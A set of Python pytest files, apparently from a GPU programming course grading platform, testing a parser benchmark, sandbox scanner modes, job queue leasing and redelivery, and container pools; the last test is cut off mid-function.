    backoffs = [f["backoff_s"] for f in dead.failures if "backoff_s" in f]
    assert backoffs == [0.5, 1.0]
    assert dead.failures[-1].get("dead_lettered") is True
    print(f"\npoison job: dead-lettered after "
          f"{poison['job'].delivery.attempts} attempts, "
          f"backoffs {backoffs}")
