"""Parser backends: generated packrat parser vs hand-written descent.

The compile front end parses every submission that misses the
CompileCache, so parse throughput is on the deadline-storm path. This
benchmark tokenizes the golden corpus (``examples/cuda/*.cu`` plus
every lab solution) once, then parses it repeatedly under both
backends — ``legacy`` (the original recursive-descent parser, kept as
the differential oracle) and ``pegen`` (the parser generated from
``minicuda.gram``) — requiring byte-identical AST reprs and recording
warm-path throughput in ``BENCH_parser.json``.

Acceptance: the generated parser's token throughput must be at least
the legacy warm path (ratio >= 1.0; the ``WEBGPU_BENCH_FAST=1`` CI
smoke sizing tolerates 0.8 to tame single-rep noise).
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

from conftest import print_table

from repro.labs import ALL_LABS, EXTRA_LABS
from repro.minicuda.compiler import EXTRA_TYPEDEFS
from repro.minicuda.lexer import tokenize
from repro.minicuda.parser import BACKENDS, DEFAULT_TYPEDEFS, Parser
from repro.minicuda.parser_gen import MiniCudaParser
from repro.minicuda.preprocessor import Preprocessor

FAST = bool(os.environ.get("WEBGPU_BENCH_FAST"))
REPS = 3 if FAST else 12
RATIO_FLOOR = 0.8 if FAST else 1.0

TYPEDEFS = frozenset(DEFAULT_TYPEDEFS) | EXTRA_TYPEDEFS
EXAMPLES_DIR = Path(__file__).resolve().parent.parent / "examples" / "cuda"

_PARSERS = {"legacy": Parser, "pegen": MiniCudaParser}


def _corpus() -> list[tuple[str, list]]:
    sources = [(p.name, p.read_text()) for p in sorted(EXAMPLES_DIR.glob("*.cu"))]
    sources += [(f"{lab.slug}:solution", lab.solution)
                for lab in ALL_LABS + EXTRA_LABS]
    return [(name, tokenize(Preprocessor().process(text)))
            for name, text in sources]


def _parse_all(parser_cls, corpus) -> tuple[float, int, int, list[str]]:
    """One warm pass: (best wall s, memo hits, memo misses, reprs)."""
    best = float("inf")
    hits = misses = 0
    reprs: list[str] = []
    for _ in range(REPS):
        reprs = []
        hits = misses = 0
        t0 = time.perf_counter()
        for _, tokens in corpus:
            parser = parser_cls(tokens, TYPEDEFS)
            reprs.append(repr(parser.parse_translation_unit()))
            hits += getattr(parser, "memo_hits", 0)
            misses += getattr(parser, "memo_misses", 0)
        best = min(best, time.perf_counter() - t0)
    return best, hits, misses, reprs


def test_parser_throughput():
    corpus = _corpus()
    total_tokens = sum(len(tokens) for _, tokens in corpus)

    results = {}
    reprs_by_backend = {}
    for backend in BACKENDS:
        _parse_all(_PARSERS[backend], corpus)  # warm-up rep
        wall, hits, misses, reprs = _parse_all(_PARSERS[backend], corpus)
        results[backend] = {
            "seconds": wall,
            "tokens_per_second": total_tokens / wall,
            "memo_hits": hits,
            "memo_misses": misses,
        }
        reprs_by_backend[backend] = reprs

    assert reprs_by_backend["pegen"] == reprs_by_backend["legacy"], \
        "backends disagree on the golden corpus"

    ratio = (results["pegen"]["tokens_per_second"]
             / results["legacy"]["tokens_per_second"])
    memo = results["pegen"]
    rows = [{
        "backend": backend,
        "wall_ms": f"{entry['seconds'] * 1e3:.1f}",
        "ktok_per_s": f"{entry['tokens_per_second'] / 1e3:.0f}",
        "memo_hits": entry["memo_hits"],
        "memo_misses": entry["memo_misses"],
    } for backend, entry in results.items()]
    print_table("Parser backends over the golden corpus "
                f"({len(corpus)} files, {total_tokens} tokens)", rows)

    record = {
        "fast_mode": FAST,
        "files": len(corpus),
        "tokens": total_tokens,
        "backends": results,
        "pegen_over_legacy": ratio,
        "memo_hit_rate": (memo["memo_hits"]
                          / max(1, memo["memo_hits"] + memo["memo_misses"])),
        "asts_identical": True,
    }
    out_path = Path(__file__).resolve().parent.parent / "BENCH_parser.json"
    out_path.write_text(json.dumps(record, indent=2) + "\n")

    assert memo["memo_hits"] > 0, "packrat memo never hit on the corpus"
    assert ratio >= RATIO_FLOOR, (
        f"generated parser at {ratio:.2f}x of legacy warm throughput "
        f"(floor {RATIO_FLOOR}x)")


if __name__ == "__main__":
    test_parser_throughput()
