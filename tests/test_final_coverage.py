"""Last-mile coverage: paths no other test exercises directly."""

import numpy as np
import pytest

from repro.db import Query
from repro.db.query import match_rows
from repro.gpusim import Device, GpuRuntime, OutOfBoundsError
from repro.labs import get_lab, execute_lab_source
from repro.minicuda import CompileError
from repro.sandbox import BlacklistScanner, ScanMode
from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job


class TestRuntimeHelpers:
    def test_memset_elementwise(self):
        rt = GpuRuntime(Device())
        buf = rt.malloc(8, "int")
        rt.memset(buf, 7)
        assert (rt.memcpy_dtoh(buf) == 7).all()

    def test_const_malloc_is_read_only_for_kernels(self):
        rt = GpuRuntime(Device())
        mask = rt.const_malloc(np.ones(4, dtype=np.float32))

        def bad(ctx, mask):
            ctx.store(mask.ptr(), 0, 0.0)

        with pytest.raises(OutOfBoundsError, match="read-only"):
            rt.launch(bad, (1,), (1,), mask)

    def test_const_malloc_readable(self):
        rt = GpuRuntime(Device())
        mask = rt.const_malloc(np.array([5.0], dtype=np.float32))
        out = rt.malloc(1, "float")

        def kernel(ctx, mask, out):
            ctx.store(out.ptr(), 0, ctx.load(mask.ptr(), 0))

        rt.launch(kernel, (1,), (1,), mask, out)
        assert rt.memcpy_dtoh(out)[0] == 5.0


class TestQueryHelpers:
    ROWS = [{"a": 1, "b": "x"}, {"a": 2, "b": "y"}, {"a": 3, "b": "x"}]

    def test_values_projection(self):
        assert Query(self.ROWS).where(b="x").values("a") == [1, 3]

    def test_match_rows_shorthand(self):
        assert match_rows(self.ROWS, a__ge=2) == self.ROWS[1:]


class TestKernelOnlyErrors:
    def test_wrong_kernel_name_is_compile_error(self):
        lab = get_lab("opencl-vecadd")
        renamed = lab.solution.replace("vecAdd", "addVectors")
        with pytest.raises(CompileError, match="vecAdd"):
            execute_lab_source(lab, renamed, lab.dataset(0))


class TestCustomWorkerSecurity:
    def test_preprocessed_scanner_config(self):
        """An operator can deploy workers with the post-preprocessor
        scan mode: innocent comments no longer reject."""
        from repro.minicuda import preprocess
        lab = get_lab("vector-add")
        commented = lab.solution.replace(
            'wbLog(TRACE, "The input length is ", inputLength);',
            "// do not fork() here")
        clock = ManualClock()
        strict = GpuWorker(WorkerConfig(), clock=clock)
        lenient = GpuWorker(WorkerConfig(scanner=BlacklistScanner(
            mode=ScanMode.PREPROCESSED, preprocessor=preprocess)),
            clock=clock)
        r_strict = strict.process(Job(lab=lab, source=commented))
        r_lenient = lenient.process(Job(lab=lab, source=commented))
        assert not r_strict.compile_ok          # the paper's nuisance
        assert r_lenient.compile_ok
        assert r_lenient.all_correct

    def test_custom_policy_per_worker(self):
        """Instructors can whitelist extra calls per lab/worker."""
        from repro.sandbox import SeccompPolicy
        lab = get_lab("vector-add")
        opened = lab.solution.replace(
            'wbLog(TRACE, "The input length is ", inputLength);',
            'fopen("data.txt", "r");')
        clock = ManualClock()
        permissive = GpuWorker(WorkerConfig(
            policy=SeccompPolicy.baseline().allowing("open")), clock=clock)
        result = permissive.process(Job(lab=lab, source=opened))
        # fopen returns NULL but the syscall itself is now permitted
        assert result.compile_ok
        assert result.datasets[0].outcome == "ok"


class TestOfflineFaultPropagation:
    def test_runtime_fault_is_raw_offline(self):
        from repro.minicuda.values import MemoryFault
        from repro.wb import run_offline
        lab = get_lab("vector-add")
        oob = lab.solution.replace(
            "if (i < len) {\n    out[i] = in1[i] + in2[i];\n  }",
            "out[i + 1000000] = 1.0f;")
        with pytest.raises(Exception):
            run_offline(oob, lab.dataset(0))


class TestHealthMonitorDirect:
    def test_record_and_overdue(self):
        from repro.cluster import HealthMonitor
        clock = ManualClock()
        monitor = HealthMonitor(clock, timeout_s=10.0)
        monitor.record("w0", clock.now())
        clock.advance(5)
        monitor.record("w1", clock.now())
        clock.advance(6)
        assert monitor.overdue() == ["w0"]
