"""Broker (v2): queue tag matching, replication, containers, driver."""

import pytest

from repro.broker import (
    ConfigServer,
    ContainerPool,
    Dashboard,
    JobQueue,
    MessageBroker,
    WorkerDriver,
)
from repro.broker.containers import (
    CONTAINER_START_S,
    CUDA_IMAGE,
    OPENCL_IMAGE,
    OPENACC_IMAGE,
)
from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job
from repro.db import Database
from repro.labs import get_lab

VECADD = get_lab("vector-add")
OPENCL = get_lab("opencl-vecadd")
MPI = get_lab("mpi-stencil")


def job_for(lab):
    return Job(lab=lab, source=lab.solution)


class TestJobQueue:
    def test_fifo_for_matching_consumer(self):
        q = JobQueue()
        a, b = job_for(VECADD), job_for(VECADD)
        q.publish(a, now=0.0)
        q.publish(b, now=1.0)
        got, wait = q.poll(frozenset({"cuda"}), 1, now=5.0)
        assert got is a and wait == 5.0

    def test_tagged_job_skipped_by_incapable_worker(self):
        q = JobQueue()
        q.publish(job_for(MPI), now=0.0)
        q.publish(job_for(VECADD), now=1.0)
        got, _ = q.poll(frozenset({"cuda"}), 1, now=2.0)
        assert got.lab.slug == "vector-add"
        assert len(q) == 1  # the MPI job is still waiting

    def test_capable_worker_takes_tagged_job_first(self):
        q = JobQueue()
        q.publish(job_for(MPI), now=0.0)
        q.publish(job_for(VECADD), now=1.0)
        got, _ = q.poll(frozenset({"cuda", "mpi"}), 4, now=2.0)
        assert got.lab.slug == "mpi-stencil"

    def test_multi_gpu_gate(self):
        q = JobQueue()
        q.publish(job_for(MPI), now=0.0)
        assert q.poll(frozenset({"cuda", "mpi"}), 1, now=1.0) is None
        assert q.poll(frozenset({"cuda", "mpi"}), 4, now=1.0) is not None

    def test_empty_poll_counted(self):
        q = JobQueue()
        assert q.poll(frozenset({"cuda"}), 1, now=0.0) is None
        assert q.stats.rejected_polls == 1

    def test_oldest_wait(self):
        q = JobQueue()
        assert q.oldest_wait(now=10.0) == 0.0
        q.publish(job_for(VECADD), now=3.0)
        assert q.oldest_wait(now=10.0) == 7.0


class TestBrokerReplication:
    def test_publish_via_zone(self):
        broker = MessageBroker(zones=("a", "b"))
        assert broker.publish(job_for(VECADD), 0.0, zone="b") == "b"
        assert broker.depth() == 1

    def test_failover_loses_no_jobs(self):
        broker = MessageBroker(zones=("a", "b"))
        broker.publish(job_for(VECADD), 0.0, zone="a")
        broker.fail_zone("a")
        accepted = broker.publish(job_for(VECADD), 1.0, zone="a")
        assert accepted == "b"
        assert broker.failovers == 1
        assert broker.depth() == 2  # both jobs present

    def test_all_zones_down(self):
        broker = MessageBroker(zones=("a",))
        broker.fail_zone("a")
        with pytest.raises(RuntimeError):
            broker.publish(job_for(VECADD), 0.0)

    def test_restore_zone(self):
        broker = MessageBroker(zones=("a", "b"))
        broker.fail_zone("a")
        broker.restore_zone("a")
        assert broker.publish(job_for(VECADD), 0.0, zone="a") == "a"


class TestContainerPool:
    def test_prestart_fills_warm_pool(self):
        pool = ContainerPool([CUDA_IMAGE, OPENCL_IMAGE], warm_per_image=2)
        cost = pool.prestart()
        assert cost == pytest.approx(4 * CONTAINER_START_S)
        assert pool.stats()["warm_available"] == 4

    def test_warm_hit_is_free(self):
        pool = ContainerPool([CUDA_IMAGE])
        pool.prestart()
        container, cost = pool.acquire("cuda")
        assert cost == 0.0
        assert pool.warm_hits == 1

    def test_cold_start_costs(self):
        pool = ContainerPool([CUDA_IMAGE], warm_per_image=0)
        _, cost = pool.acquire("cuda")
        assert cost == pytest.approx(CONTAINER_START_S)
        assert pool.cold_starts == 1

    def test_release_deletes_and_replenishes(self):
        """Paper: "we can delete a container after a job completes and
        start a new container to replenish the pool"."""
        pool = ContainerPool([CUDA_IMAGE], warm_per_image=1)
        pool.prestart()
        container, _ = pool.acquire("cuda")
        pool.release(container)
        stats = pool.stats()
        assert stats["deleted"] == 1
        assert stats["replenishments"] == 1
        assert stats["warm_available"] == 1
        assert container.dirty

    def test_language_to_image_selection(self):
        pool = ContainerPool([CUDA_IMAGE, OPENACC_IMAGE])
        assert pool.image_for("openacc").name.startswith("webgpu/pgi")
        assert pool.image_for("cuda-mpi") is CUDA_IMAGE

    def test_unknown_language_raises(self):
        pool = ContainerPool([CUDA_IMAGE])
        with pytest.raises(LookupError):
            pool.acquire("fortran")

    def test_gpu_slots_round_robin(self):
        pool = ContainerPool([CUDA_IMAGE], num_gpus=2, warm_per_image=4)
        pool.prestart()
        slots = {c.gpu_slot for c in pool._warm[CUDA_IMAGE.name]}
        assert slots == {0, 1}


class TestConfigServer:
    def test_versioning(self):
        server = ConfigServer()
        assert server.version == 1
        server.update(poll_interval_s=5.0)
        assert server.version == 2
        assert server.current.poll_interval_s == 5.0

    def test_fetch_if_newer(self):
        server = ConfigServer()
        assert server.fetch_if_newer(1) is None
        server.update(health_interval_s=60.0)
        assert server.fetch_if_newer(1).version == 2


class TestWorkerDriver:
    def make_driver(self, clock, tags=frozenset({"cuda"}), num_gpus=1,
                    images=(CUDA_IMAGE,), broker=None, db=None, cfg=None):
        broker = broker or MessageBroker()
        db = db or Database("metrics")
        cfg = cfg or ConfigServer()
        worker = GpuWorker(WorkerConfig(tags=tags, num_gpus=num_gpus),
                           clock=clock)
        return WorkerDriver(worker, broker, ContainerPool(list(images)),
                            cfg, db, clock=clock), broker, db, cfg

    def test_pull_loop_processes_job(self):
        clock = ManualClock()
        driver, broker, db, _ = self.make_driver(clock)
        broker.publish(job_for(VECADD), clock.now())
        result = driver.step()
        assert result is not None and result.all_correct
        assert result.extra["container"].startswith("cuda")
        assert db.count("worker_metrics") >= 1

    def test_empty_queue_returns_none(self):
        clock = ManualClock()
        driver, _, _, _ = self.make_driver(clock)
        assert driver.step() is None
        assert driver.stats.empty_polls == 1

    def test_capabilities_include_container_toolchains(self):
        clock = ManualClock()
        driver, _, _, _ = self.make_driver(
            clock, images=(CUDA_IMAGE, OPENCL_IMAGE))
        assert "opencl" in driver.capabilities

    def test_config_change_restarts_driver(self):
        clock = ManualClock()
        driver, broker, _, cfg = self.make_driver(clock)
        cfg.update(warm_containers_per_image=3)
        driver.step()
        assert driver.stats.restarts == 1
        assert driver.config.version == 2
        assert driver.containers.warm_per_image == 3

    def test_dead_worker_does_not_pull(self):
        clock = ManualClock()
        driver, broker, _, _ = self.make_driver(clock)
        broker.publish(job_for(VECADD), clock.now())
        driver.worker.crash()
        assert driver.step() is None
        assert broker.depth() == 1  # job untouched for healthy workers

    def test_drain(self):
        clock = ManualClock()
        driver, broker, _, _ = self.make_driver(clock)
        for _ in range(3):
            broker.publish(job_for(VECADD), clock.now())
        results = driver.drain()
        assert len(results) == 3

    def test_dashboard_renders_fleet(self):
        clock = ManualClock()
        driver, broker, db, _ = self.make_driver(clock)
        broker.publish(job_for(VECADD), clock.now())
        driver.step()
        driver.health_check()
        dashboard = Dashboard(db, broker)
        text = dashboard.render()
        assert "dashboard" in text
        assert driver.worker.name in text
        snap = dashboard.snapshot()
        assert snap["queue_depth"] == 0
        assert driver.worker.name in snap["last_heartbeat"]
