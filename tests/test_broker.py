"""Broker (v2): queue tag matching, replication, containers, driver."""

import pytest

from repro.broker import (
    ConfigServer,
    ContainerPool,
    Dashboard,
    DeliveryPolicy,
    JobQueue,
    MessageBroker,
    WorkerDriver,
)
from repro.broker.containers import (
    CONTAINER_START_S,
    CUDA_IMAGE,
    OPENCL_IMAGE,
    OPENACC_IMAGE,
)
from repro.cluster import (
    FaultInjector,
    GpuWorker,
    ManualClock,
    PlatformCaches,
    WorkerConfig,
)
from repro.cluster.job import Job
from repro.db import Database
from repro.labs import get_lab

VECADD = get_lab("vector-add")
OPENCL = get_lab("opencl-vecadd")
MPI = get_lab("mpi-stencil")


def job_for(lab):
    return Job(lab=lab, source=lab.solution)


class TestJobQueue:
    def test_fifo_for_matching_consumer(self):
        q = JobQueue()
        a, b = job_for(VECADD), job_for(VECADD)
        q.publish(a, now=0.0)
        q.publish(b, now=1.0)
        got, wait = q.poll(frozenset({"cuda"}), 1, now=5.0)
        assert got is a and wait == 5.0

    def test_tagged_job_skipped_by_incapable_worker(self):
        q = JobQueue()
        q.publish(job_for(MPI), now=0.0)
        q.publish(job_for(VECADD), now=1.0)
        got, _ = q.poll(frozenset({"cuda"}), 1, now=2.0)
        assert got.lab.slug == "vector-add"
        assert len(q) == 1  # the MPI job is still waiting

    def test_capable_worker_takes_tagged_job_first(self):
        q = JobQueue()
        q.publish(job_for(MPI), now=0.0)
        q.publish(job_for(VECADD), now=1.0)
        got, _ = q.poll(frozenset({"cuda", "mpi"}), 4, now=2.0)
        assert got.lab.slug == "mpi-stencil"

    def test_multi_gpu_gate(self):
        q = JobQueue()
        q.publish(job_for(MPI), now=0.0)
        assert q.poll(frozenset({"cuda", "mpi"}), 1, now=1.0) is None
        assert q.poll(frozenset({"cuda", "mpi"}), 4, now=1.0) is not None

    def test_empty_poll_counted(self):
        q = JobQueue()
        assert q.poll(frozenset({"cuda"}), 1, now=0.0) is None
        assert q.stats.rejected_polls == 1

    def test_oldest_wait(self):
        q = JobQueue()
        assert q.oldest_wait(now=10.0) == 0.0
        q.publish(job_for(VECADD), now=3.0)
        assert q.oldest_wait(now=10.0) == 7.0


class TestAtLeastOnceDelivery:
    POLICY = DeliveryPolicy(visibility_timeout_s=10.0, max_attempts=3,
                            backoff_base_s=0.5, backoff_cap_s=30.0)

    def queue(self):
        return JobQueue(policy=self.POLICY)

    def test_poll_leases_instead_of_deleting(self):
        q = self.queue()
        job = job_for(VECADD)
        q.publish(job, now=0.0)
        got, _ = q.poll(frozenset({"cuda"}), 1, now=1.0, consumer="w1")
        assert got is job
        assert len(q) == 0                 # not waiting any more...
        assert q.in_flight_count == 1      # ...but tracked in flight
        assert job.delivery.attempts == 1

    def test_ack_retires_lease(self):
        q = self.queue()
        job = job_for(VECADD)
        q.publish(job, now=0.0)
        q.poll(frozenset({"cuda"}), 1, now=0.0)
        assert q.ack(job.job_id)
        assert q.in_flight_count == 0
        assert q.stats.acked == 1
        assert not q.ack(job.job_id)  # double-ack is a no-op

    def test_nack_redelivers_after_backoff(self):
        q = self.queue()
        job = job_for(VECADD)
        q.publish(job, now=0.0)
        q.poll(frozenset({"cuda"}), 1, now=0.0)
        assert q.nack(job.job_id, now=1.0, reason="boom")
        assert len(q) == 1 and q.in_flight_count == 0
        # still inside the backoff window: not pollable
        assert q.poll(frozenset({"cuda"}), 1, now=1.1) is None
        got, wait = q.poll(frozenset({"cuda"}), 1, now=2.0)
        assert got is job
        assert wait == 2.0  # queue wait measured from the original publish
        assert job.delivery.attempts == 2
        assert job.delivery.redeliveries == 1
        assert job.delivery.failures[0]["reason"] == "boom"
        assert job.delivery.failures[0]["backoff_s"] == 0.5

    def test_lease_expiry_redelivers_crashed_consumers_job(self):
        q = self.queue()
        job = job_for(VECADD)
        q.publish(job, now=0.0)
        q.poll(frozenset({"cuda"}), 1, now=0.0, consumer="doomed")
        assert q.expire_leases(now=5.0) == []      # lease still live
        expired = q.expire_leases(now=10.0)
        assert expired == [job]
        assert q.stats.expired_leases == 1
        assert "doomed" in job.delivery.failures[0]["reason"]
        # redelivered to the next matching consumer after the backoff
        got, _ = q.poll(frozenset({"cuda"}), 1, now=11.0, consumer="w2")
        assert got is job and job.delivery.redeliveries == 1

    def test_poison_job_dead_letters_after_max_attempts(self):
        q = self.queue()
        job = job_for(VECADD)
        q.publish(job, now=0.0)
        now = 0.0
        for _ in range(self.POLICY.max_attempts):
            polled = q.poll(frozenset({"cuda"}), 1, now=now)
            assert polled is not None
            q.nack(job.job_id, now=now, reason="segfault")
            now += 60.0  # well past any backoff
        assert job.delivery.attempts == self.POLICY.max_attempts
        assert len(q) == 0 and q.in_flight_count == 0
        dead = q.dead_letter(job.job_id)
        assert dead is not None and dead.job is job
        assert q.stats.dead_lettered == 1
        # failure history: one record per attempt, backoffs doubling
        assert len(dead.failures) == 3
        assert [f.get("backoff_s") for f in dead.failures[:2]] == [0.5, 1.0]
        assert dead.failures[-1]["dead_lettered"] is True
        # a dead-lettered job is never polled again
        assert q.poll(frozenset({"cuda"}), 1, now=now + 100.0) is None

    def test_backoff_grows_exponentially_and_caps(self):
        policy = DeliveryPolicy(backoff_base_s=1.0, backoff_cap_s=8.0)
        assert [policy.backoff_for(n) for n in (1, 2, 3, 4, 5)] == \
            [1.0, 2.0, 4.0, 8.0, 8.0]

    def test_cancel_removes_waiting_job(self):
        q = self.queue()
        job = job_for(MPI)
        q.publish(job, now=0.0)
        assert q.cancel(job.job_id)
        assert len(q) == 0 and q.stats.cancelled == 1
        assert not q.cancel(job.job_id)

    def test_next_wakeup_tracks_leases_and_backoffs(self):
        q = self.queue()
        assert q.next_wakeup(now=0.0) is None
        a, b = job_for(VECADD), job_for(VECADD)
        q.publish(a, now=0.0)
        q.publish(b, now=0.0)
        q.poll(frozenset({"cuda"}), 1, now=0.0)       # lease ends at 10
        assert q.next_wakeup(now=0.0) == 10.0
        q.poll(frozenset({"cuda"}), 1, now=0.0)
        q.nack(b.job_id, now=0.0)                     # backoff ends at 0.5
        assert q.next_wakeup(now=0.0) == 0.5

    def test_at_most_once_mode_preserves_legacy_semantics(self):
        q = JobQueue(at_least_once=False)
        job = job_for(VECADD)
        q.publish(job, now=0.0)
        q.poll(frozenset({"cuda"}), 1, now=0.0)
        assert q.in_flight_count == 0      # deleted on poll: crash loses it
        assert not q.ack(job.job_id)
        assert q.expire_leases(now=1e9) == []

    def test_redelivered_job_keeps_fifo_position(self):
        q = self.queue()
        first, second = job_for(VECADD), job_for(VECADD)
        q.publish(first, now=0.0)
        q.publish(second, now=1.0)
        q.poll(frozenset({"cuda"}), 1, now=2.0)
        q.nack(first.job_id, now=2.0)
        # after the backoff the redelivered job is still ahead of the
        # younger one (original enqueue time is kept)
        got, _ = q.poll(frozenset({"cuda"}), 1, now=3.0)
        assert got is first


class TestBrokerReplication:
    def test_publish_via_zone(self):
        broker = MessageBroker(zones=("a", "b"))
        assert broker.publish(job_for(VECADD), 0.0, zone="b") == "b"
        assert broker.depth() == 1

    def test_failover_loses_no_jobs(self):
        broker = MessageBroker(zones=("a", "b"))
        broker.publish(job_for(VECADD), 0.0, zone="a")
        broker.fail_zone("a")
        accepted = broker.publish(job_for(VECADD), 1.0, zone="a")
        assert accepted == "b"
        assert broker.failovers == 1
        assert broker.depth() == 2  # both jobs present

    def test_all_zones_down(self):
        broker = MessageBroker(zones=("a",))
        broker.fail_zone("a")
        with pytest.raises(RuntimeError):
            broker.publish(job_for(VECADD), 0.0)

    def test_restore_zone(self):
        broker = MessageBroker(zones=("a", "b"))
        broker.fail_zone("a")
        broker.restore_zone("a")
        assert broker.publish(job_for(VECADD), 0.0, zone="a") == "a"

    def test_unknown_zone_is_routed_not_counted_as_failover(self):
        broker = MessageBroker(zones=("a", "b"))
        assert broker.publish(job_for(VECADD), 0.0, zone="nowhere") == "a"
        assert broker.failovers == 0   # nothing failed; plain routing
        broker.fail_zone("a")
        assert broker.publish(job_for(VECADD), 1.0, zone="a") == "b"
        assert broker.failovers == 1   # a known-but-down zone is one


class TestContainerPool:
    def test_prestart_fills_warm_pool(self):
        pool = ContainerPool([CUDA_IMAGE, OPENCL_IMAGE], warm_per_image=2)
        cost = pool.prestart()
        assert cost == pytest.approx(4 * CONTAINER_START_S)
        assert pool.stats()["warm_available"] == 4

    def test_warm_hit_is_free(self):
        pool = ContainerPool([CUDA_IMAGE])
        pool.prestart()
        container, cost = pool.acquire("cuda")
        assert cost == 0.0
        assert pool.warm_hits == 1

    def test_cold_start_costs(self):
        pool = ContainerPool([CUDA_IMAGE], warm_per_image=0)
        _, cost = pool.acquire("cuda")
        assert cost == pytest.approx(CONTAINER_START_S)
        assert pool.cold_starts == 1

    def test_release_deletes_and_replenishes(self):
        """Paper: "we can delete a container after a job completes and
        start a new container to replenish the pool"."""
        pool = ContainerPool([CUDA_IMAGE], warm_per_image=1)
        pool.prestart()
        container, _ = pool.acquire("cuda")
        pool.release(container)
        stats = pool.stats()
        assert stats["deleted"] == 1
        assert stats["replenishments"] == 1
        assert stats["warm_available"] == 1
        assert container.dirty

    def test_language_to_image_selection(self):
        pool = ContainerPool([CUDA_IMAGE, OPENACC_IMAGE])
        assert pool.image_for("openacc").name.startswith("webgpu/pgi")
        assert pool.image_for("cuda-mpi") is CUDA_IMAGE

    def test_unknown_language_raises(self):
        pool = ContainerPool([CUDA_IMAGE])
        with pytest.raises(LookupError):
            pool.acquire("fortran")

    def test_gpu_slots_round_robin(self):
        pool = ContainerPool([CUDA_IMAGE], num_gpus=2, warm_per_image=4)
        pool.prestart()
        slots = {c.gpu_slot for c in pool._warm[CUDA_IMAGE.name]}
        assert slots == {0, 1}


class TestConfigServer:
    def test_versioning(self):
        server = ConfigServer()
        assert server.version == 1
        server.update(poll_interval_s=5.0)
        assert server.version == 2
        assert server.current.poll_interval_s == 5.0

    def test_fetch_if_newer(self):
        server = ConfigServer()
        assert server.fetch_if_newer(1) is None
        server.update(health_interval_s=60.0)
        assert server.fetch_if_newer(1).version == 2


class TestWorkerDriver:
    def make_driver(self, clock, tags=frozenset({"cuda"}), num_gpus=1,
                    images=(CUDA_IMAGE,), broker=None, db=None, cfg=None):
        broker = broker or MessageBroker()
        db = db or Database("metrics")
        cfg = cfg or ConfigServer()
        worker = GpuWorker(WorkerConfig(tags=tags, num_gpus=num_gpus),
                           clock=clock)
        return WorkerDriver(worker, broker, ContainerPool(list(images)),
                            cfg, db, clock=clock), broker, db, cfg

    def test_pull_loop_processes_job(self):
        clock = ManualClock()
        driver, broker, db, _ = self.make_driver(clock)
        broker.publish(job_for(VECADD), clock.now())
        result = driver.step()
        assert result is not None and result.all_correct
        assert result.extra["container"].startswith("cuda")
        assert db.count("worker_metrics") >= 1

    def test_empty_queue_returns_none(self):
        clock = ManualClock()
        driver, _, _, _ = self.make_driver(clock)
        assert driver.step() is None
        assert driver.stats.empty_polls == 1

    def test_capabilities_include_container_toolchains(self):
        clock = ManualClock()
        driver, _, _, _ = self.make_driver(
            clock, images=(CUDA_IMAGE, OPENCL_IMAGE))
        assert "opencl" in driver.capabilities

    def test_config_change_restarts_driver(self):
        clock = ManualClock()
        driver, broker, _, cfg = self.make_driver(clock)
        cfg.update(warm_containers_per_image=3)
        driver.step()
        assert driver.stats.restarts == 1
        assert driver.config.version == 2
        assert driver.containers.warm_per_image == 3

    def test_dead_worker_does_not_pull(self):
        clock = ManualClock()
        driver, broker, _, _ = self.make_driver(clock)
        broker.publish(job_for(VECADD), clock.now())
        driver.worker.crash()
        assert driver.step() is None
        assert broker.depth() == 1  # job untouched for healthy workers

    def test_drain(self):
        clock = ManualClock()
        driver, broker, _, _ = self.make_driver(clock)
        for _ in range(3):
            broker.publish(job_for(VECADD), clock.now())
        results = driver.drain()
        assert len(results) == 3

    def test_successful_job_acks_its_lease(self):
        clock = ManualClock()
        driver, broker, _, _ = self.make_driver(clock)
        broker.publish(job_for(VECADD), clock.now())
        result = driver.step()
        assert result is not None
        assert broker.in_flight_count == 0
        assert broker.queue.stats.acked == 1
        assert driver.stats.acks == 1
        assert result.extra["attempts"] == 1
        assert result.extra["redeliveries"] == 0

    def test_crash_mid_job_redelivered_to_second_worker(self):
        clock = ManualClock()
        broker = MessageBroker(
            policy=DeliveryPolicy(visibility_timeout_s=10.0,
                                  backoff_base_s=0.5))
        db = Database("metrics")
        d1, _, _, _ = self.make_driver(clock, broker=broker, db=db)
        d2, _, _, _ = self.make_driver(clock, broker=broker, db=db)
        job = job_for(VECADD)
        broker.publish(job, clock.now())

        FaultInjector().crash_mid_job(d1.worker)
        assert d1.step() is None           # died holding the job
        assert not d1.worker.alive
        assert d1.stats.crashes == 1
        assert broker.in_flight_count == 1  # lease survives the crash
        assert broker.depth() == 0

        clock.advance(11.0)                 # past the visibility timeout
        assert broker.expire_leases(clock.now()) == [job]
        clock.advance(1.0)                  # past the redelivery backoff
        result = d2.step()
        assert result is not None and result.all_correct
        assert result.worker_name == d2.worker.name
        assert result.extra["redeliveries"] == 1
        assert job.delivery.failures[0]["consumer"] == d1.worker.name
        assert broker.in_flight_count == 0

    def test_wedge_mid_job_silent_node_loses_its_lease(self):
        clock = ManualClock()
        broker = MessageBroker(
            policy=DeliveryPolicy(visibility_timeout_s=10.0,
                                  backoff_base_s=0.5))
        db = Database("metrics")
        d1, _, _, _ = self.make_driver(clock, broker=broker, db=db)
        d2, _, _, _ = self.make_driver(clock, broker=broker, db=db)
        job = job_for(VECADD)
        broker.publish(job, clock.now())

        FaultInjector().wedge_mid_job(d1.worker)
        assert d1.step() is None
        assert d1.worker.alive and d1.worker.wedged
        assert d1.worker.heartbeat() is None   # silent: eviction scenario
        assert broker.in_flight_count == 1
        polls_before = d1.stats.polls
        assert d1.step() is None               # a stuck node stops polling
        assert d1.stats.polls == polls_before

        clock.advance(11.0)
        broker.expire_leases(clock.now())
        clock.advance(1.0)
        result = d2.step()
        assert result is not None and result.all_correct
        assert result.extra["redeliveries"] == 1

    def test_crash_mid_job_abandons_cache_flight(self):
        """A redelivered job whose first owner died must become a fresh
        single-flight owner, not a joiner of a dead computation."""
        clock = ManualClock()
        caches = PlatformCaches(clock=clock)
        broker = MessageBroker(
            policy=DeliveryPolicy(visibility_timeout_s=10.0,
                                  backoff_base_s=0.5))
        db = Database("metrics")
        cfg = ConfigServer()

        def cached_driver():
            worker = GpuWorker(WorkerConfig(), clock=clock)
            return WorkerDriver(worker, broker,
                                ContainerPool([CUDA_IMAGE]), cfg, db,
                                clock=clock, result_cache=caches.results)

        d1, d2 = cached_driver(), cached_driver()
        job = job_for(VECADD)
        broker.publish(job, clock.now())
        FaultInjector().crash_mid_job(d1.worker)
        assert d1.step() is None
